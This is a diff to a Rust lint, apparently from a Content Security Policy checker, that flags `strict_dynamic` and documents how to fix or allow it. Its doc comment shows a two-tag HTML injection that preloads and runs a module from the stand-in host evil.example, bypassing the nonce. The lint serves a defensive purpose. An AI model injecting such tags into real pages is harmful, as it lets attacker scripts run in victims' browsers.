@@ -9,28 +9,24 @@ use crate::span::{Span, Spanned};
 lint! {
     /// # What it does
     ///
-    /// Looks for `strict_dynamic` in the list that decides about script elements, unless another enforced policy stops
-    /// what it lets in.
+    /// Looks for `strict_dynamic` in the list that takes effect for script elements, unless another enforced policy
+    /// blocks what it lets in.
     ///
     /// # Why it matters
     ///
-    /// An attacker who can inject two tags into a page runs any script, with no nonce and no report:
+    /// The standard has browsers fetch a module preload as if a trusted script had requested it, which `strict_dynamic`
+    /// allows for every URL, including `data:`. A module script then takes what was fetched, and nothing is checked
+    /// again. Chromium 156 behaves so. Fallback sources for old browsers, hashes in place of the nonce and Trusted
+    /// Types do not stop it.
     ///
-    /// ```text
+    /// # Attack
+    ///
+    /// An attacker who can inject two tags runs any script, without a nonce and without a report:
+    ///
+    /// ```html
     /// <link rel="modulepreload" href="https://evil.example/a.js">
     /// <script type="module" src="https://evil.example/a.js"></script>
     /// ```
-    ///
-    /// The standard has browsers fetch the preload as if a trusted script had asked for it, which `strict_dynamic`
-    /// allows for every URL, `data:` included. The module script then takes what has been fetched, and nothing is
-    /// checked again. Chromium 156 does so. Fallbacks for old browsers, hashes in place of the nonce and Trusted Types
-    /// do not stop it.
-    ///
-    /// Without `strict_dynamic`, the list is compared with the URL. A trusted script that loads others then gives
-    /// them the nonce (`script.nonce = document.currentScript.nonce`), and workers need a `worker_src`, since they fall
-    /// back to the list of scripts. A site that cannot do without `strict_dynamic` sends a second policy beside it,
-    /// which names the hosts of all its scripts. A list for every host, such as `https`, stops nothing, and no list stops
-    /// files on the hosts that it names: a user-uploaded file under `self` still runs.
     ///
     /// # Example
     ///
@@ -38,7 +34,13 @@ lint! {
     /// content_security_policy: { script_src: [nonce, strict_dynamic], base_uri: none },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Remove `strict_dynamic`. Trusted scripts then pass the nonce to the scripts that they load, with
+    /// `script.nonce = document.currentScript.nonce`, and workers need a `worker_src`, since they fall back to the list
+    /// of scripts.
+    ///
+    /// A site that needs `strict_dynamic` sends a second policy, which names the hosts of all its scripts:
     ///
     /// ```text
     /// content_security_policy: [
@@ -46,6 +48,19 @@ lint! {
     ///     { script_src: [self, nonce, "https://js.example.com"] },
     /// ],
     /// ```
+    ///
+    /// A second list that matches every host, such as `https`, stops nothing. No list stops files on the hosts that it
+    /// names: a user-uploaded file on `self` still runs.
+    ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_strict_dynamic, reason = "the tag manager loads from hosts that change weekly")]
+    /// script_src: [nonce, strict_dynamic],
+    /// ```
+    ///
+    /// Reasonable where the hosts of scripts cannot be listed: `strict_dynamic` with a nonce still stops injected
+    /// inline scripts and handlers.
     ///
     /// # References
     ///
@@ -57,26 +72,26 @@ lint! {
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     let enforced = policy.csps_of(Disposition::Enforce);
-    let mut said: Vec<Span> = Vec::new();
+    let mut reported: Vec<Span> = Vec::new();
     for csp in policy.csps() {
         let Some(list) = csp.effective_clause(Directive::ScriptSrcElem) else { continue };
         let Some(span) = list.keyword(Keyword::StrictDynamic) else { continue };
-        if said.contains(&span) || enforced.iter().any(|other| stops(other, policy.form)) {
+        if reported.contains(&span) || enforced.iter().any(|other| stops(other, policy.form)) {
             continue;
         }
-        said.push(span);
+        reported.push(span);
         report.push(
             Diagnostic::finding(
                 span,
                 format!("`strict_dynamic` in `{}` lets two injected tags run any script", list.directive.node.key()),
             )
             .help(help(list, enforced.iter().find_map(|other| leak(other, policy.form))))
-            .note("an injected `<link rel=modulepreload>` fetches a module from anywhere, and an injected `<script type=module>` runs it; a second policy stops all but files on the hosts that it names, such as uploads"),
+            .note("an injected `<link rel=modulepreload>` fetches a module from anywhere, and an injected `<script type=module>` runs it; a second policy stops that, except for files on the hosts that it names, such as uploads"),
         );
     }
 }
 
-/// Whether a policy stops a module that was preloaded from a host of the attacker's.
+/// Whether a policy stops a module that was preloaded from the attacker's host.
 fn stops(csp: &Csp, form: Form) -> bool {
     csp.sandboxes(&ALLOW_SCRIPTS)
         || csp.effective_clause(Directive::ScriptSrcElem).is_some_and(|list| {
@@ -96,7 +111,7 @@ fn trusts_loaders(list: &Clause) -> bool {
     [Keyword::StrictDynamic, Keyword::StrictDynamicUrl].into_iter().any(|keyword| list.keyword(keyword).is_some())
 }
 
-/// Whether an attacker can serve a script that this source matches, or knows what it asks for.
+/// Whether an attacker can serve a script that this source matches, or knows the nonce that it requires.
 fn lets_in(source: &Spanned<SourceExpression>, evaluates: bool, form: Form) -> bool {
     match &source.node {
         SourceExpression::Host(host) => source.node.lets_anyone_in() || bypass(host, evaluates).is_some(),
@@ -113,11 +128,11 @@ fn help(list: &Clause, leak: Option<&SourceExpression>) -> String {
         directive => directive.key(),
     };
     let is_kept = |source: &&Spanned<SourceExpression>| {
-        // What fills a slot is a host, which is ignored like any other.
+        // A slot is filled with a host, which browsers ignore like any other.
         let is_slot = matches!(source.node, SourceExpression::Slot(_) | SourceExpression::Slots(_));
         !is_slot
             && source.node != SourceExpression::Keyword(Keyword::StrictDynamic)
-            && list.ignores(&source.node, Purpose::Script).is_none()
+            && list.overridden_by(&source.node, Purpose::Script).is_none()
     };
     let kept: Vec<_> = list.sources().iter().filter(is_kept).collect();
     let sources = separated(&kept, ", ", &|source| source.node.dsl());
@@ -127,12 +142,15 @@ fn help(list: &Clause, leak: Option<&SourceExpression>) -> String {
         (Some(_), _) => format!("`{key}: [{sources}]`"),
     };
     let (trusted, loaded) = match list.has_nonce() || list.nonce_or_hash().is_none() {
-        true => ("nonce", "have scripts pass the nonce on to those that they load"),
+        true => ("nonce", "make scripts pass the nonce to the scripts that they load"),
         false => ("…", "list the hashes of the scripts that they load too"),
     };
     let second = match leak {
         Some(source) => {
-            format!("name the hosts in the other policy, in place of `{}` where attackers find a script", source.dsl())
+            format!(
+                "name the hosts in the other policy instead of `{}`, where an attacker finds a script",
+                source.dsl()
+            )
         }
         None => format!("add a second policy that names the hosts: `[{{ … }}, {{ script_src: [self, {trusted}] }}]`"),
     };
@@ -166,7 +184,7 @@ mod tests {
             ("default-src 'none'", false),
             ("sandbox allow-forms", false),
             ("script-src blob: 'self'", false),
-            // It asks for what an attacker has.
+            // An attacker has what these require.
             ("script-src https: 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ'", true),
             ("script-src http:", true),
             ("script-src *", true),
@@ -176,7 +194,7 @@ mod tests {
             ("script-src 'self' https://cdn.jsdelivr.net", true),
             ("script-src 'self' *.github.io", true),
             ("default-src *", true),
-            // It trusts loaders too, or says nothing of script elements.
+            // These trust loaders too, or do not restrict script elements.
             (FIRST, true),
             ("script-src 'strict-dynamic' 'self'", true),
             ("script-src 'self'; script-src-elem 'nonce-hLb2n4Yz0rJgq1Qm5sT7vQ' 'strict-dynamic'", true),
@@ -190,9 +208,9 @@ mod tests {
             let name = "content-security-policy";
             assert_eq!(fires(&[(name, FIRST), (name, second)]), is_open, "{second}");
             assert_eq!(fires(&[(name, &joined)]), is_open, "{joined}");
-            let behind = format!("{second}, {FIRST}");
-            assert_eq!(fires(&[(name, &behind)]), is_open, "{behind}");
-            // A policy that is only reported on stops nothing.
+            let reversed = format!("{second}, {FIRST}");
+            assert_eq!(fires(&[(name, &reversed)]), is_open, "{reversed}");
+            // A report-only policy stops nothing.
             assert!(fires(&[(name, FIRST), ("content-security-policy-report-only", second)]), "{second}");
         }
     }
